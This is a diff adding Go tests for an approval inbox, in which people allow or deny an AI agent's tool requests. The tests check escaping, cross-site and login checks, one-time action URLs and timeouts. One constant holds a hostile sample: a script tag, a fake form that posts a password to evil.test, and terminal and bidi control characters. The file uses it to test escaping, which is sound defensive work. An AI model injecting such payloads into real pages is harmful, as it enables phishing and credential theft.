@@ -1,0 +1,242 @@
+package auth
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/agent-box/agent-box/internal/runtime/approval"
+	"github.com/agent-box/agent-box/internal/runtime/contract"
+)
+
+// approvalConfig is notifyConfig with ops's action buttons (al has
+// notifications without them).
+var approvalConfig = strings.NewReplacer(
+	`"ops": {"users": ["alice", "bob"], "notify": true}`, `"ops": {"users": ["alice", "bob"], "notify": true, "actions": true}`,
+	`"idleTimeout"`, `"approvalWait": "1h", "actionLifetime": "1m", "idleTimeout"`,
+).Replace(notifyConfig)
+
+// hostileInput is an agent's text that tries to look like the box's own
+// page and to run: markup, a script, a form, ANSI and bidi.
+const hostileInput = "</pre><script>alert(1)</script><form action=https://evil.test><input name=password></form>\x1b[2J\u202eLog in again"
+
+// ask starts uid's hook asking r; the answer (status, body) arrives on
+// the channel; cancel is the hook going away.
+func (w *tw) ask(uid int, r approval.Request) (<-chan *httptest.ResponseRecorder, context.CancelFunc) {
+	w.t.Helper()
+	body, _ := json.Marshal(r)
+	ctx, cancel := context.WithCancel(context.WithValue(context.Background(), peerKey{}, uid))
+	out := make(chan *httptest.ResponseRecorder, 1)
+	go func() {
+		out <- w.doWith(w.s.Status(), rq{method: "POST", host: "status", target: contract.Approvals.Path, uid: &uid}, func(req *http.Request) {
+			req.Body = io.NopCloser(strings.NewReader(string(body)))
+			req.ContentLength = int64(len(body))
+			*req = *req.WithContext(ctx)
+		})
+	}()
+	return out, cancel
+}
+
+func (w *tw) waitingOf(user string) []approval.Request {
+	var out []approval.Request
+	for _, r := range w.s.pending.Waiting(user, w.clock.Now()) {
+		out = append(out, r.Request)
+	}
+	return out
+}
+
+// waitFor polls cond for up to 5 s (the hook's goroutine registers).
+func (w *tw) waitFor(what string, cond func() bool) {
+	w.t.Helper()
+	for end := time.Now().Add(5 * time.Second); !cond(); time.Sleep(2 * time.Millisecond) {
+		if time.Now().After(end) {
+			w.t.Fatalf("no %s within 5 s", what)
+		}
+	}
+}
+
+func answerOf(t *testing.T, rec *httptest.ResponseRecorder) approval.Answer {
+	t.Helper()
+	var a approval.Answer
+	if rec.Code != 200 || json.Unmarshal(rec.Body.Bytes(), &a) != nil {
+		t.Fatalf("the hook's answer: %d %s", rec.Code, rec.Body)
+	}
+	return a
+}
+
+func areq(n int, input string) approval.Request {
+	return approval.Request{ID: strings.Repeat(string(rune('0'+n)), 32), Session: "main", Agent: "claude", Tool: "Bash", Input: input, AllowSession: true}
+}
+
+// TestTheInboxShowsARequestAsInertTextAndItsDecisionReachesTheHook: the
+// box page shows the request framed as the agent's words, every byte of
+// markup escaped; Allow from the page answers the waiting hook, once; a
+// form from another site, and a login that may not open the user, decide
+// nothing; that login's page shows nothing of it.
+func TestTheInboxShowsARequestAsInertTextAndItsDecisionReachesTheHook(t *testing.T) {
+	w := newTW(t)
+	w.fakeUsers()
+	ops, al := w.login("ops"), w.login("al")
+	clean := approval.Clean(hostileInput, contract.Approvals.MaxInputBytes)
+	bobs, _ := w.ask(1002, areq(1, clean))
+	w.waitFor("bob's request", func() bool { return len(w.waitingOf("bob")) == 1 })
+
+	page := w.pages(rq{method: "GET", host: "box.test", target: "/", cookies: []string{ops}}).Body.String()
+	for _, bad := range []string{"<script>alert", "<form action=https://evil", "\x1b", "\u202e", "</pre><script>"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("the page carries %q of the agent's text as it is", bad)
+		}
+	}
+	for _, want := range []string{"&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "the agent's words, not agent-box's", `name="decision" value="allow-session"`, `<b>bob</b> asks for a permission`} {
+		if !strings.Contains(page, want) {
+			t.Errorf("the page lacks %q", want)
+		}
+	}
+	if strings.Contains(w.pages(rq{method: "GET", host: "box.test", target: "/", cookies: []string{al}}).Body.String(), "asks for a permission") {
+		t.Error("al's page shows bob's request")
+	}
+	decide := func(cookie, user, id, d string, header map[string]string) int {
+		return w.pages(rq{method: "POST", host: "box.test", target: authPage(contract.Approvals.DecidePage), cookies: []string{cookie}, header: header,
+			form: url.Values{"user": {user}, "request": {id}, "decision": {d}}}).Code
+	}
+	id := areq(1, "").ID
+	if got := decide(al, "bob", id, "allow", nil); got != http.StatusForbidden {
+		t.Errorf("al decides bob's request: %d", got)
+	}
+	if got := decide(ops, "bob", id, "allow", map[string]string{"Sec-Fetch-Site": "cross-site"}); got != http.StatusForbidden {
+		t.Errorf("a form from another site: %d", got)
+	}
+	if got := decide(ops, "alice", id, "allow", nil); got != http.StatusConflict {
+		t.Errorf("bob's request as alice's: %d", got)
+	}
+	if got := decide(ops, "bob", id, "allow", nil); got != http.StatusSeeOther {
+		t.Fatalf("ops allows: %d", got)
+	}
+	if a := answerOf(t, <-bobs); a != (approval.Answer{Decision: approval.Allow, By: "ops"}) {
+		t.Errorf("the hook's answer: %+v", a)
+	}
+	if got := decide(ops, "bob", id, "deny", nil); got != http.StatusConflict {
+		t.Errorf("a second decision: %d", got)
+	}
+	if !strings.Contains(w.log.String(), "login ops: allow on bob's request "+id) {
+		t.Errorf("the decision is not logged:\n%s", w.log)
+	}
+}
+
+// TestANotificationsActionURLDecidesOnceBeforeItExpires: ops's
+// notification carries one URL per decision (al's none); a POST decides
+// once; a replay, another of its URLs after the decision, and an expired
+// URL are refused; GET changes nothing.
+func TestANotificationsActionURLDecidesOnceBeforeItExpires(t *testing.T) {
+	w := newTW(t)
+	w.restart(approvalConfig)
+	w.fakeUsers()
+	feed := w.feedOf()
+	first, _ := w.ask(1001, areq(1, "ls"))
+	events := datagrams(t, feed, 2*time.Second)
+	if len(events) != 2 {
+		t.Fatalf("%d notifications, want ops's and al's: %+v", len(events), events)
+	}
+	var actions map[string]string
+	for _, e := range events {
+		if e.Request != "Bash: ls" || e.State != "needs-you" || e.Reason != "permission" {
+			t.Errorf("%s's notification: %+v", e.Login, e)
+		}
+		switch e.Login {
+		case "al":
+			if len(e.Actions) != 0 {
+				t.Errorf("al has no actions, got %+v", e.Actions)
+			}
+		case "ops":
+			actions = map[string]string{}
+			for _, a := range e.Actions {
+				if !strings.HasPrefix(a.URL, "https://box.test"+contract.Approvals.ActPrefix) {
+					t.Errorf("action URL %q", a.URL)
+				}
+				actions[a.Decision] = strings.TrimPrefix(a.URL, "https://box.test")
+			}
+		}
+	}
+	if len(actions) != 3 {
+		t.Fatalf("ops's actions: %v", actions)
+	}
+	act := func(method, path string) *httptest.ResponseRecorder {
+		// the phone's app: no cookie, no Origin, no Sec-Fetch-Site
+		return w.pages(rq{method: method, host: "box.test", target: path, header: map[string]string{"Sec-Fetch-Site": ""}})
+	}
+	if got := act("GET", actions["deny"]).Code; got != http.StatusMethodNotAllowed {
+		t.Errorf("GET of an action: %d", got)
+	}
+	if got := act("POST", contract.Approvals.ActPrefix+"not-a-token").Code; got != http.StatusNotFound {
+		t.Errorf("a made-up token: %d", got)
+	}
+	if rec := act("POST", actions["deny"]); rec.Code != 200 || rec.Body.String() != "denied\n" {
+		t.Fatalf("deny: %d %q", rec.Code, rec.Body)
+	}
+	if a := answerOf(t, <-first); a != (approval.Answer{Decision: approval.Deny, By: "ops (notification)"}) {
+		t.Errorf("the hook's answer: %+v", a)
+	}
+	for name, path := range map[string]string{"the same URL again": actions["deny"], "allow after the deny": actions["allow"]} {
+		if got := act("POST", path).Code; got != http.StatusGone {
+			t.Errorf("%s: %d, want 410", name, got)
+		}
+	}
+
+	second, _ := w.ask(1001, areq(2, "ls"))
+	events = datagrams(t, feed, 2*time.Second)
+	w.clock.Advance(time.Minute) // the actions' lifetime; the wait is an hour
+	for _, e := range events {
+		for _, a := range e.Actions {
+			if got := act("POST", strings.TrimPrefix(a.URL, "https://box.test")).Code; got != http.StatusGone {
+				t.Errorf("an expired %s: %d, want 410", a.Decision, got)
+			}
+		}
+	}
+	if len(w.waitingOf("alice")) != 1 {
+		t.Error("an expired action decided the request")
+	}
+	_ = second
+}
+
+// TestAHookIsAnsweredNoneAtTheDeadlineAndItsGoingEndsTheRequest: the
+// agent's own prompt takes over at the wait's end; a hook that goes away
+// takes its request out of the inbox.
+func TestAHookIsAnsweredNoneAtTheDeadlineAndItsGoingEndsTheRequest(t *testing.T) {
+	w := newTW(t)
+	w.restart(strings.Replace(testConfig, `"idleTimeout"`, `"approvalWait": "5s", "idleTimeout"`, 1))
+	w.fakeUsers()
+	gone, leave := w.ask(1001, areq(1, "ls"))
+	w.waitFor("the request", func() bool { return len(w.waitingOf("alice")) == 1 })
+	leave()
+	<-gone
+	w.waitFor("the request's end", func() bool { return len(w.waitingOf("alice")) == 0 })
+
+	start := time.Now()
+	late, _ := w.ask(1001, areq(2, "ls")) // the real clock times the wait: 5 s
+	if a := answerOf(t, <-late); a.Decision != approval.None {
+		t.Errorf("at the deadline: %+v", a)
+	}
+	if d := time.Since(start); d < 4*time.Second {
+		t.Errorf("answered after %s, before the wait of 5 s", d)
+	}
+	for name, c := range map[string]struct {
+		uid  int
+		r    approval.Request
+		want int
+	}{
+		"an ended request asked again": {1001, areq(2, "ls"), http.StatusGone},
+		"carol, no configured user":    {1003, areq(3, "ls"), http.StatusForbidden},
+		"an escape in the input":       {1001, areq(4, "\x1b[2J"), http.StatusBadRequest},
+	} {
+		rec, _ := w.ask(c.uid, c.r)
+		if got := (<-rec).Code; got != c.want {
+			t.Errorf("%s: %d, want %d", name, got, c.want)
+		}
+	}
+}
